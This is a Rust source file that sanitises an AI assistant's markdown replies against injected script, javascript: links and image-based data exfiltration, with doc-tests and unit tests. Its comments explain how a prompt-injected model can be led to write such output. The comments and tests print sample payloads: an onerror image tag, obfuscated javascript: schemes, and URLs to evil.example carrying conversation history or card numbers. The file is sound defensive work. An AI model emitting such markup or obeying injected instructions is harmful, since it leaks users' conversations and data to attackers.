//! Assistant replies made safe to show.
//!
//! The model writes markdown, and a model that obeyed an injected instruction writes whatever the
//! attacker wanted: `<img src=x onerror=...>`, `[click](javascript:...)`, or the quiet one, an
//! image whose URL carries the conversation to the attacker's server the moment it is displayed
//! (`![](https://evil.example/?q=<history>)`). Two outputs, for two kinds of channel:
//!
//! - [`render_html`] for channels that show HTML (the widget, the console): pulldown-cmark with
//!   raw HTML turned into text, links kept only for `http`, `https` and `mailto`, images kept only
//!   from allowlisted hosts (others become plain links), then `ammonia` with an element and
//!   attribute allowlist as a second, independent layer. Links get
//!   `rel="noopener noreferrer nofollow"`.
//! - [`sanitize_markdown`] for channels that render markdown themselves: the same rules applied
//!   to the source text, so that any CommonMark renderer, even one that passes raw HTML through,
//!   produces nothing active.
//!
//! URLs are judged the way a browser reads them: entities decoded by the markdown parser, then
//! the WHATWG URL parser (which drops tabs and newlines and lower-cases the scheme), so
//! `jav&#x09;ascript:` and `JaVaScRiPt:` are both recognised.

use std::collections::HashSet;
use std::ops::Range;
use std::sync::LazyLock;

use pulldown_cmark::{CowStr, Event, LinkType, Options, Parser, Tag, TagEnd};
use url::Url;

/// The `rel` every rendered link carries.
pub const LINK_REL: &str = "noopener noreferrer nofollow";

fn parser_options() -> Options {
    Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH
}

/// Renders `md` to HTML that is safe to insert into a page.
///
/// `image_hosts` are the hosts (exact, case-insensitive, e.g. `"cdn.shop.example"`) whose
/// `https` images may be shown; every other image becomes a link to it, labelled with its alt
/// text, so nothing is fetched unless the reader clicks.
///
/// ```
/// let html = switchboard_guard::markdown::render_html("[x](javascript:alert(1)) <b>hi</b>", &[]);
/// assert_eq!(html, "<p>x &lt;b&gt;hi&lt;/b&gt;</p>\n");
/// ```
pub fn render_html(md: &str, image_hosts: &[&str]) -> String {
    let mut out = String::with_capacity(md.len() * 3 / 2);
    let mut open: Vec<Kept> = Vec::new();
    let events = Parser::new_ext(md, parser_options()).filter_map(|event| match event {
        // Raw HTML is shown as the text it is, never interpreted.
        Event::Html(html) | Event::InlineHtml(html) => Some(Event::Text(html)),
        Event::Start(Tag::Link { link_type, dest_url, title, id }) => {
            if safe_link_of(link_type, &dest_url) {
                open.push(Kept::Yes);
                Some(Event::Start(Tag::Link { link_type, dest_url, title, id }))
            } else {
                open.push(Kept::No);
                None
            }
        }
        Event::Start(Tag::Image { link_type, dest_url, title, id }) => {
            if allowed_image(&dest_url, image_hosts) {
                open.push(Kept::Yes);
                Some(Event::Start(Tag::Image { link_type, dest_url, title, id }))
            } else if safe_link(&dest_url) {
                open.push(Kept::AsLink);
                Some(Event::Start(Tag::Link { link_type: LinkType::Inline, dest_url, title, id }))
            } else {
                open.push(Kept::No);
                None
            }
        }
        Event::End(end @ (TagEnd::Link | TagEnd::Image)) => match open.pop() {
            Some(Kept::Yes) => Some(Event::End(end)),
            Some(Kept::AsLink) => Some(Event::End(TagEnd::Link)),
            _ => None,
        },
        other => Some(other),
    });
    pulldown_cmark::html::push_html(&mut out, events);
    CLEANER.clean(&out).to_string()
}

/// What became of a link or image start tag, so its end tag follows suit.
enum Kept {
    Yes,
    AsLink,
    No,
}

/// The second layer: whatever the renderer produced, only these elements and attributes pass.
static CLEANER: LazyLock<ammonia::Builder<'static>> = LazyLock::new(|| {
    let tags: HashSet<&str> = [
        "a",
        "blockquote",
        "br",
        "code",
        "del",
        "em",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "img",
        "li",
        "ol",
        "p",
        "pre",
        "strong",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "ul",
    ]
    .into();
    let mut builder = ammonia::Builder::empty();
    builder
        .tags(tags)
        .tag_attributes(
            [("a", ["href", "title"].into()), ("img", ["src", "alt", "title"].into()), ("ol", ["start"].into())].into(),
        )
        .generic_attributes(HashSet::new())
        .url_schemes(["http", "https", "mailto"].into())
        .url_relative(ammonia::UrlRelative::Deny)
        .link_rel(Some(LINK_REL))
        .strip_comments(true);
    builder
});

/// [`safe_link`] for a parsed link: email autolinks (`<jo@example.com>`) carry the bare address
/// and are rendered with `mailto:`.
fn safe_link_of(link_type: LinkType, dest: &str) -> bool {
    match link_type {
        LinkType::Email => safe_link(&format!("mailto:{dest}")),
        _ => safe_link(dest),
    }
}

/// Whether a link destination may be followed: an absolute `http`, `https` or `mailto` URL.
/// Relative links are refused too: a reply has no base page to be relative to.
pub fn safe_link(dest: &str) -> bool {
    Url::parse(dest).is_ok_and(|u| matches!(u.scheme(), "http" | "https" | "mailto"))
}

/// Whether an image may be displayed: `https` from one of `hosts` (exact host, any case).
pub fn allowed_image(dest: &str, hosts: &[&str]) -> bool {
    let Ok(url) = Url::parse(dest) else { return false };
    url.scheme() == "https"
        && url.username().is_empty()
        && url.host_str().is_some_and(|h| hosts.iter().any(|allowed| allowed.eq_ignore_ascii_case(h)))
}

/// Returns `md` with raw HTML escaped, links with unsafe destinations reduced to their text, and
/// images from hosts outside `image_hosts` turned into plain links (or their alt text when the
/// URL is unsafe too). The result, rendered by any CommonMark renderer (even one passing raw HTML
/// through), contains no script, event handler, unsafe URL or foreign image.
///
/// ```
/// use switchboard_guard::markdown::sanitize_markdown;
/// assert_eq!(sanitize_markdown("![chart](https://evil.example/?q=secret)", &[]), "[chart](<https://evil.example/?q=secret>)");
/// assert_eq!(sanitize_markdown("<script>x</script>", &[]), "\\<script>x\\</script>");
/// ```
pub fn sanitize_markdown(md: &str, image_hosts: &[&str]) -> String {
    // One pass can expose a construct the previous text hid (removing a definition, say):
    // repeat until nothing changes. In practice the second pass is the last.
    let mut current = sanitize_pass(md, image_hosts);
    for _ in 0..4 {
        let next = sanitize_pass(&current, image_hosts);
        if next == current {
            return current;
        }
        current = next;
    }
    // Pathological input that never settles: show it all as literal text.
    escape_markdown(md)
}

fn sanitize_pass(md: &str, image_hosts: &[&str]) -> String {
    let mut edits: Vec<(Range<usize>, String)> = Vec::new();
    let mut iter = Parser::new_ext(md, parser_options()).into_offset_iter();
    // Open links/images whose source range will be replaced: (range, start event, collected text).
    let mut pending: Vec<(Range<usize>, Tag<'_>, String)> = Vec::new();
    for (event, range) in iter.by_ref() {
        match event {
            Event::Html(_) | Event::InlineHtml(_) => {
                edits.push((range.clone(), md[range].replace('\\', "\\\\").replace('<', "\\<")));
            }
            Event::Start(tag @ (Tag::Link { .. } | Tag::Image { .. })) => pending.push((range, tag, String::new())),
            Event::Text(text) | Event::Code(text) => {
                if let Some((_, _, label)) = pending.last_mut() {
                    label.push_str(&text);
                }
            }
            Event::End(TagEnd::Link | TagEnd::Image) => {
                let Some((range, tag, label)) = pending.pop() else { continue };
                if let Some((_, _, outer)) = pending.last_mut() {
                    outer.push_str(&label);
                }
                if let Some(replacement) = neutralize(&tag, &label, image_hosts) {
                    edits.push((range, replacement));
                }
            }
            _ => {}
        }
    }
    for (_, def) in iter.reference_definitions().iter() {
        if !safe_link(&def.dest) {
            edits.push((def.span.clone(), String::new()));
        }
    }
    apply_edits(md, edits)
}

/// Returns `md` with every link whose destination `allowed` refuses reduced to its text, and
/// every bare `http(s)://` or `www.` URL it refuses (which a chat window would make a link)
/// replaced by `[link removed]`. For a language model's reply, `allowed` is "written in the
/// material the model was given": a planted instruction can make the model write a URL that
/// carries the conversation to someone else, and nothing the sources say needs such a URL. For
/// every reply, `allowed` is also [`crate::links::LinkHosts::allows`]: a source can itself be
/// poisoned with a link to an attacker's site.
///
/// ```
/// use switchboard_guard::markdown::restrict_links;
/// let sources = "See https://shop.example/returns for the form.";
/// let reply = "Use [the form](https://shop.example/returns) or https://evil.example/?q=card.";
/// assert_eq!(restrict_links(reply, |url| sources.contains(url)), "Use [the form](https://shop.example/returns) or [link removed].");
/// ```
pub fn restrict_links(md: &str, allowed: impl Fn(&str) -> bool) -> String {
    static BARE_URL: LazyLock<regex::Regex> =
        // Chat windows link `www.` words too, and find a URL inside a word ("xhttps://…").
        LazyLock::new(|| regex::Regex::new(r"(?i)(?:https?://|www\.)[^\s<>\[\]()]+").expect("valid regex"));
    let mut edits: Vec<(Range<usize>, String)> = Vec::new();
    let mut pending: Vec<(Range<usize>, String, String)> = Vec::new();
    for (event, range) in Parser::new_ext(md, parser_options()).into_offset_iter() {
        match event {
            Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => {
                pending.push((range, dest_url.to_string(), String::new()));
            }
            Event::Text(text) | Event::Code(text) => {
                if let Some((_, _, label)) = pending.last_mut() {
                    label.push_str(&text);
                    continue;
                }
                // A bare URL in text: the range is the text's own, so offsets line up when the
                // text is written as is (no entities or escapes inside it).
                if md.get(range.clone()) == Some(&*text) {
                    for found in BARE_URL.find_iter(&text) {
                        let url = found.as_str().trim_end_matches(['.', ',', ';', ':', '!', '?', '\'', '"']);
                        if !allowed(url) {
                            let start = range.start + found.start();
                            edits.push((start..start + url.len(), "[link removed]".into()));
                        }
                    }
                }
            }
            Event::End(TagEnd::Link | TagEnd::Image) => {
                let Some((range, dest, label)) = pending.pop() else { continue };
                if let Some((_, _, outer)) = pending.last_mut() {
                    outer.push_str(&label);
                }
                if !allowed(&dest) {
                    // A label that is itself a URL (an autolink) would be linked again by a chat window.
                    let bare = label.trim().is_empty() || label.contains("://");
                    let label = if bare { "[link removed]".to_owned() } else { escape_markdown(&label) };
                    edits.push((range, label));
                }
            }
            _ => {}
        }
    }
    apply_edits(md, edits)
}

/// The replacement text for a link or image that may not stay as it is; `None` keeps it.
fn neutralize(tag: &Tag<'_>, label: &str, image_hosts: &[&str]) -> Option<String> {
    match tag {
        Tag::Link { dest_url, link_type, .. } => (!safe_link_of(*link_type, dest_url)).then(|| escape_markdown(label)),
        Tag::Image { dest_url, .. } => {
            if allowed_image(dest_url, image_hosts) {
                return None;
            }
            let label = if label.trim().is_empty() { "image" } else { label };
            Some(match safe_url(dest_url) {
                Some(url) => format!("[{}](<{url}>)", escape_markdown(label)),
                None => escape_markdown(label),
            })
        }
        _ => None,
    }
}

/// The URL re-serialised by the WHATWG parser (percent-encoded: no spaces, `<` or `>`), when safe.
fn safe_url(dest: &CowStr<'_>) -> Option<String> {
    Url::parse(dest).ok().filter(|u| matches!(u.scheme(), "http" | "https" | "mailto")).map(String::from)
}

/// Applies non-overlapping replacements; an edit inside an earlier (enclosing) one is dropped.
fn apply_edits(md: &str, mut edits: Vec<(Range<usize>, String)>) -> String {
    edits.sort_by_key(|(r, _)| (r.start, std::cmp::Reverse(r.end)));
    let mut out = String::with_capacity(md.len());
    let mut last = 0;
    for (range, replacement) in edits {
        if range.start < last {
            continue;
        }
        out.push_str(&md[last..range.start]);
        out.push_str(&replacement);
        last = range.end;
    }
    out.push_str(&md[last..]);
    out
}

/// Backslash-escapes every ASCII punctuation character, so the text is read as literal text.
pub fn escape_markdown(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + text.len() / 8);
    for c in text.chars() {
        if c.is_ascii_punctuation() {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn links_the_material_never_wrote_are_removed() {
        let material = "Returns: https://shop.example/returns. Mail help@shop.example.";
        let allowed = |url: &str| material.contains(url);
        let reply = "Form: [here](https://shop.example/returns). Also <https://evil.example/a>, \
                     ![x](https://evil.example/i.png) and https://evil.example/?q=4111 then https://shop.example/returns.";
        let out = restrict_links(reply, allowed);
        assert!(!out.contains("evil"), "{out}");
        assert!(out.contains("Also [link removed], x and [link removed] then"), "{out}");
        assert!(out.contains("[here](https://shop.example/returns)"), "{out}");
        assert!(out.ends_with("then https://shop.example/returns."), "{out}");
        assert_eq!(restrict_links("`https://evil.example` in code", allowed), "`https://evil.example` in code");
    }

    #[test]
    fn links_to_hosts_the_business_does_not_send_customers_to_are_removed() {
        use crate::links::{HostPattern, LinkHosts};
        let hosts = LinkHosts::new(["shop.example", "*.shop.example"].map(|h| HostPattern::parse(h).unwrap()));
        let reply = "Form: [here](https://shop.example/returns), [help](https://help.shop.example/a). \
                     Partner: [deal](https://evil.example/d?ref=chat), <https://evil.example/a>, \
                     ![x](https://evil.example/i.png), ![logo](https://cdn.shop.example/l.png), \
                     https://evil.example/b, www.evil.example/c, xhttps://evil.example/e and \
                     https://shop.example@evil.example/f. Mail <help@shop.example> or [us](mailto:a@evil.example). \
                     Shop: https://shop.example/returns.";
        let out = restrict_links(reply, |url| hosts.allows(url));
        assert!(!out.contains("evil.example/"), "{out}");
        assert!(out.contains("[here](https://shop.example/returns), [help](https://help.shop.example/a)"), "{out}");
        assert!(out.contains("Partner: deal, [link removed], x, ![logo](https://cdn.shop.example/l.png)"), "{out}");
        assert!(out.contains("[link removed], [link removed], x[link removed] and [link removed]."), "{out}");
        // Addresses are not judged by host: writing an email still takes the customer.
        assert!(out.contains("Mail <help@shop.example> or [us](mailto:a@evil.example)."), "{out}");
        assert!(out.ends_with("Shop: https://shop.example/returns."), "{out}");
    }
}
